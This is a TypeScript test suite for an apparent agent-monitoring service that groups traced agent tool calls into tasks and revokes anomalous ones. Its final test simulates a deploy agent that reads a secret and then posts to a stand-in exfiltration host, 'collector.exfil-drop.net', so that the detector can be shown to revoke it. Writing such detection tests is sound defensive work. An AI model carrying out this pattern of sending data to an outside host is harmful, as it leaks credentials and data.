/**
 * Agents as they are, through classification and the processor on the ClickHouse engine: spans shaped as agent
 * frameworks export them (no Tripline attribute on the framework's spans; a task id on a wrapper span, or none),
 * split over requests the way a BatchSpanProcessor splits them.
 *
 * - a task id declared on a wrapper span that arrives after the framework's spans names the task they began;
 * - with no task id, the trace is the task and completes when its root ends (an `invoke_agent` root, a remote parent);
 * - spans of the trace count for its task whatever their timestamps, in the root's batch or after it;
 * - a root without events makes no task; a root that arrives before its events still ends their task;
 * - a new type whose every task reads a secret and posts to the team's webhook alerts in warm-up, revokes nothing,
 *   escalates no agent, reaches its baseline, and is then quiet; the same post to a new host is still revoked.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { OtlpSpan, OtlpTraceRequest } from '../../../schemas/otlp.ts';
import { classifyRequest } from '../../../services/core/classify.ts';
import { DEFAULT_DETECTOR_CONFIG } from '../../../services/core/detect/index.ts';
import { createLocalKillSwitch } from '../../../services/killswitch/kill-switch.ts';
import type { KillSwitchMessage } from '../../../services/killswitch/kill-switch.ts';
import { createProcessor } from '../../../services/processor/processor.ts';
import type { Processor } from '../../../services/processor/processor.ts';
import { createLogger } from '../../../services/shared/logger.ts';
import { openClickHouseStore } from '../../../services/store/clickhouse/store.ts';
import { createMemoryStore } from '../../../services/store/memory-store.ts';
import type { Store } from '../../../services/store/store.ts';

const TENANT = 'default';
const WARMUP = 20;
const dataDir = mkdtempSync(join(tmpdir(), 'tripline-trace-tasks-'));
const logger = createLogger('silent');
afterAll(() => rmSync(dataDir, { recursive: true, force: true }));
let databases = 0;
let ids = 0;

const hex = (n: number, width: number): string => n.toString(16).padStart(width, '0');
const newTrace = (): string => hex((ids += 1), 32);
const newSpanId = (): string => hex((ids += 1), 16);
const nanos = (ms: number): string => `${String(Math.round(ms * 1000))}000`;

type Attrs = Record<string, string | number | boolean>;

interface SpanSpec {
  traceId: string;
  spanId?: string;
  parentSpanId?: string;
  name: string;
  startMs: number;
  endMs: number;
  attributes?: Attrs;
  flags?: number;
}

function span(spec: SpanSpec): OtlpSpan {
  const out: OtlpSpan = {
    traceId: spec.traceId,
    spanId: spec.spanId ?? newSpanId(),
    parentSpanId: spec.parentSpanId ?? '',
    name: spec.name,
    kind: 1,
    startTimeUnixNano: nanos(spec.startMs),
    endTimeUnixNano: nanos(spec.endMs),
    attributes: Object.entries(spec.attributes ?? {}).map(([key, value]) =>
      typeof value === 'string'
        ? { key, value: { stringValue: value } }
        : typeof value === 'boolean'
          ? { key, value: { boolValue: value } }
          : { key, value: { intValue: value } },
    ),
    events: [],
    links: [],
  };
  if (spec.flags !== undefined) out.flags = spec.flags;
  return out;
}

function request(resource: Attrs, spans: OtlpSpan[]): OtlpTraceRequest {
  return {
    resourceSpans: [
      {
        resource: {
          attributes: Object.entries(resource).map(([key, value]) => ({ key, value: { stringValue: String(value) } })),
        },
        scopeSpans: [{ spans }],
      },
    ],
  };
}

async function send(processor: Processor, resource: Attrs, spans: OtlpSpan[]): Promise<void> {
  const { events, boundaries } = classifyRequest(request(resource, spans), TENANT);
  await processor.handle({ events, boundaries });
}

/** A framework's tool span (GenAI conventions, as pydantic-ai writes it): no Tripline attribute. */
function toolSpan(
  traceId: string,
  parentSpanId: string,
  tool: string,
  startMs: number,
  args: Record<string, unknown> = {},
  agent = 'refund-agent',
): OtlpSpan {
  return span({
    traceId,
    parentSpanId,
    name: `execute_tool ${tool}`,
    startMs,
    endMs: startMs + 20,
    attributes: {
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': tool,
      'gen_ai.tool.call.arguments': JSON.stringify(args),
      'gen_ai.agent.name': agent,
    },
  });
}

// The same behaviour on the ClickHouse engine and on the store's in-memory twin (services/store/memory-store.ts).
describe.each(['clickhouse', 'memory'] as const)(
  'tasks of agents as they are (classification → processor → %s store)',
  (backend) => {
    let store: Store;
    const processors: Processor[] = [];
    let t = Date.now() - 6 * 3_600_000;

    async function start(messages: KillSwitchMessage[] = []): Promise<Processor> {
      databases += 1;
      store =
        backend === 'memory'
          ? createMemoryStore()
          : await openClickHouseStore({ dataDir, database: `trace_tasks_${process.pid}_${databases}`, logger });
      await store.migrate();
      const killSwitch = createLocalKillSwitch();
      killSwitch.subscribe((message) => messages.push(message));
      const processor = await createProcessor({
        store,
        killSwitch,
        logger,
        taskIdleTimeoutMs: 600_000,
        detector: { ...DEFAULT_DETECTOR_CONFIG, warmupTasks: WARMUP },
        escalation: { revocations: 3, windowMs: 3_600_000, blockMs: 3_600_000 },
      });
      processors.push(processor);
      return processor;
    }

    afterAll(async () => {
      for (const processor of processors) await processor.stop();
      await store.close();
    });

    it('names the task its framework spans began with the id a wrapper span declares after them', async () => {
      const processor = await start();
      const resource = { 'service.name': 'refund-service', 'tripline.task.type': 'customer_refund' };
      const trace = newTrace();
      const wrapper = newSpanId();
      const agent = newSpanId();
      t += 60_000;
      // First export: the framework's spans (children end first); second: the agent span and the wrapper.
      await send(processor, resource, [
        toolSpan(trace, agent, 'get_order', t + 10, { order_id: 7 }),
        toolSpan(trace, agent, 'issue_refund', t + 50, { order_id: 7, amount: 12 }),
      ]);
      const running = await store.getTask(TENANT, trace);
      expect(running).toMatchObject({
        taskId: trace,
        status: 'active',
        agentId: 'refund-agent',
        taskType: 'customer_refund',
      });
      await send(processor, resource, [
        span({
          traceId: trace,
          spanId: agent,
          parentSpanId: wrapper,
          name: 'invoke_agent refund-agent',
          startMs: t + 5,
          endMs: t + 90,
          attributes: { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': 'refund-agent' },
        }),
        span({
          traceId: trace,
          spanId: wrapper,
          name: 'task customer_refund',
          startMs: t,
          endMs: t + 95,
          attributes: { 'tripline.task.id': 'refund-42', 'tripline.task.type': 'customer_refund' },
        }),
      ]);
      const named = await store.getTask(TENANT, 'refund-42');
      expect(named).toMatchObject({
        taskId: trace,
        name: 'refund-42',
        status: 'completed',
        counts: { tool_call: 2, data_access: 0, privilege_change: 0 },
      });
      expect(processor.taskSnapshot(TENANT, 'refund-42')).toMatchObject({
        status: 'completed',
        agentId: 'refund-agent',
      });
      expect(processor.baselines().get(TENANT, 'customer_refund')?.tasks).toBe(1);
      // A person can kill and restore it by the name they know.
      await processor.revoke({ tenant: TENANT, taskId: 'refund-42', actor: 'alice', reason: 'check' });
      expect((await store.getTask(TENANT, 'refund-42'))?.status).toBe('revoked');
    });

    it('scores a task as the type its agent declared before while the wrapper that declares it is still to come', async () => {
      const processor = await start();
      const resource = { 'service.name': 'refund-service' };
      async function run(agent: string, type: string): Promise<{ trace: string; during: string | undefined }> {
        const trace = newTrace();
        const wrapper = newSpanId();
        t += 60_000;
        await send(processor, resource, [toolSpan(trace, wrapper, 'get_order', t + 10, {}, agent)]);
        const during = (await store.getTask(TENANT, trace))?.taskType;
        await send(processor, resource, [
          span({
            traceId: trace,
            spanId: wrapper,
            name: 'task',
            startMs: t,
            endMs: t + 50,
            attributes: { 'tripline.task.id': `${type}-${trace}`, 'tripline.task.type': type },
          }),
        ]);
        return { trace, during };
      }
      // The agent's first task is `unknown` until its wrapper ends; its next ones are scored as the type it declared.
      expect((await run('refund-agent', 'customer_refund')).during).toBe('unknown');
      const second = await run('refund-agent', 'customer_refund');
      expect(second.during).toBe('customer_refund');
      expect(await store.getTask(TENANT, second.trace)).toMatchObject({
        taskType: 'customer_refund',
        status: 'completed',
      });
      // A different declaration wins over the guess; an agent that declared two types gets no guess any more.
      const other = await run('refund-agent', 'order_lookup');
      expect(other.during).toBe('customer_refund');
      expect(await store.getTask(TENANT, other.trace)).toMatchObject({ taskType: 'order_lookup' });
      expect((await run('refund-agent', 'customer_refund')).during).toBe('unknown');
    });

    it('takes the trace as the task when nothing declares one, and completes it when its root ends', async () => {
      const processor = await start();
      const resource = { 'service.name': 'refund-service', 'tripline.task.type': 'customer_refund' };
      for (const rootFlags of [undefined, 0x300]) {
        const trace = newTrace();
        const root = newSpanId();
        t += 60_000;
        await send(processor, resource, [toolSpan(trace, root, 'get_order', t + 10)]);
        // The root: an invoke_agent with no parent, or a server span whose parent is remote (another service's).
        await send(processor, resource, [
          span({
            traceId: trace,
            spanId: root,
            parentSpanId: rootFlags === undefined ? '' : newSpanId(),
            flags: rootFlags,
            name: 'invoke_agent refund-agent',
            startMs: t,
            endMs: t + 60,
            attributes: { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': 'refund-agent' },
          }),
        ]);
        expect(await store.getTask(TENANT, trace)).toMatchObject({
          status: 'completed',
          name: '',
          taskType: 'customer_refund',
          agentId: 'refund-agent',
        });
      }
      expect(processor.baselines().get(TENANT, 'customer_refund')?.tasks).toBe(2);
    });

    it('counts every span of the trace for its task, whatever its timestamps, in the root’s batch or after it', async () => {
      const messages: KillSwitchMessage[] = [];
      const processor = await start(messages);
      const resource = { 'service.name': 'refund-service', 'tripline.task.type': 'customer_refund' };
      // In one request: the root first (instrumentation scopes group spans on the wire), then a child whose clock is
      // 3 s ahead of the root's end.
      const trace = newTrace();
      const root = newSpanId();
      t += 60_000;
      await send(processor, resource, [
        span({
          traceId: trace,
          spanId: root,
          name: 'invoke_agent refund-agent',
          startMs: t,
          endMs: t + 100,
          attributes: { 'gen_ai.operation.name': 'invoke_agent' },
        }),
        toolSpan(trace, root, 'get_order', t + 3_100),
      ]);
      // In a later request (another exporter, another topic), a child 5 s late by its clock.
      await send(processor, resource, [toolSpan(trace, root, 'issue_refund', t + 5_000)]);
      const record = await store.getTask(TENANT, trace);
      expect(record).toMatchObject({
        status: 'completed',
        counts: { tool_call: 2, data_access: 0, privilege_change: 0 },
      });
      expect(messages.filter((message) => message.type === 'revocation')).toHaveLength(0);
      const events = await store.eventsForTask(TENANT, trace);
      expect(events.map(({ verdict }) => verdict.hardRule)).toEqual([undefined, undefined]);
    });

    it('makes no task of a root without events, and ends a task whose root arrived before its events', async () => {
      const processor = await start();
      const resource = { 'service.name': 'web', 'tripline.task.type': 'customer_refund' };
      const quiet = newTrace();
      t += 60_000;
      await send(processor, resource, [span({ traceId: quiet, name: 'GET /health', startMs: t, endMs: t + 2 })]);
      expect(await store.getTask(TENANT, quiet)).toBeNull();

      const trace = newTrace();
      const root = newSpanId();
      await send(processor, resource, [
        span({
          traceId: trace,
          spanId: root,
          name: 'invoke_agent refund-agent',
          startMs: t,
          endMs: t + 80,
          attributes: { 'gen_ai.operation.name': 'invoke_agent' },
        }),
      ]);
      await send(processor, resource, [
        span({
          traceId: trace,
          parentSpanId: root,
          name: 'SELECT',
          startMs: t + 10,
          endMs: t + 12,
          attributes: { 'db.system': 'sqlite', 'db.statement': 'SELECT * FROM orders WHERE id = ?' },
        }),
      ]);
      expect(await store.getTask(TENANT, trace)).toMatchObject({
        status: 'completed',
        counts: { tool_call: 0, data_access: 1, privilege_change: 0 },
      });
      expect((await store.eventsForTask(TENANT, trace))[0]?.event.data).toMatchObject({
        system: 'sqlite',
        resource: 'orders',
        operation: 'SELECT',
      });
    });

    it('lets a new type whose every task reads a secret and posts to its usual webhook warm up without a revocation', async () => {
      const messages: KillSwitchMessage[] = [];
      const processor = await start(messages);
      const resource = { 'service.name': 'deploy-bot', 'tripline.task.type': 'deploy_service' };

      async function deployTask(agent: string, webhook: string): Promise<string> {
        const trace = newTrace();
        const root = newSpanId();
        t += 60_000;
        await send(processor, resource, [
          toolSpan(trace, root, 'read_secret', t + 10, { name: 'DEPLOY_TOKEN' }, agent),
          toolSpan(trace, root, 'run_deploy', t + 100, { service: 'billing', version: '1.4.2' }, agent),
          toolSpan(trace, root, 'http_post', t + 400, { url: webhook, text: 'billing 1.4.2 deployed' }, agent),
        ]);
        await send(processor, resource, [
          span({
            traceId: trace,
            spanId: root,
            name: `invoke_agent ${agent}`,
            startMs: t,
            endMs: t + 500,
            attributes: { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': agent },
          }),
        ]);
        return trace;
      }

      const usual = 'https://hooks.chat.example.com/services/T000/B000/XXXX';
      const warmup: string[] = [];
      for (let i = 0; i < WARMUP; i += 1) warmup.push(await deployTask(`deployer-${String(i % 3)}`, usual));
      const during = await Promise.all(warmup.map((trace) => store.getTask(TENANT, trace)));
      expect(during.map((record) => record?.status)).toEqual(warmup.map(() => 'completed'));
      expect(
        during.some((record) => record?.decision === 'alert' && record.regime === 'rules'),
        'warm-up alerts on the new host',
      ).toBe(true);
      expect(processor.baselines().get(TENANT, 'deploy_service')?.tasks).toBe(WARMUP);

      const after: string[] = [];
      for (let i = 0; i < 5; i += 1) after.push(await deployTask(`deployer-${String(i % 3)}`, usual));
      for (const trace of after)
        expect(await store.getTask(TENANT, trace)).toMatchObject({
          status: 'completed',
          regime: 'type_baseline',
          decision: 'allow',
        });
      expect(
        messages.filter((message) => message.type === 'revocation'),
        'no task revoked, no agent escalated',
      ).toHaveLength(0);

      const rogue = await deployTask('deployer-1', 'https://collector.exfil-drop.net/in');
      expect(await store.getTask(TENANT, rogue)).toMatchObject({
        status: 'revoked',
        regime: 'type_baseline',
        decision: 'revoke',
      });
      expect((await store.getTask(TENANT, rogue))?.reasons.join(' ')).toMatch(/exfil-drop\.net/);
    });
  },
);
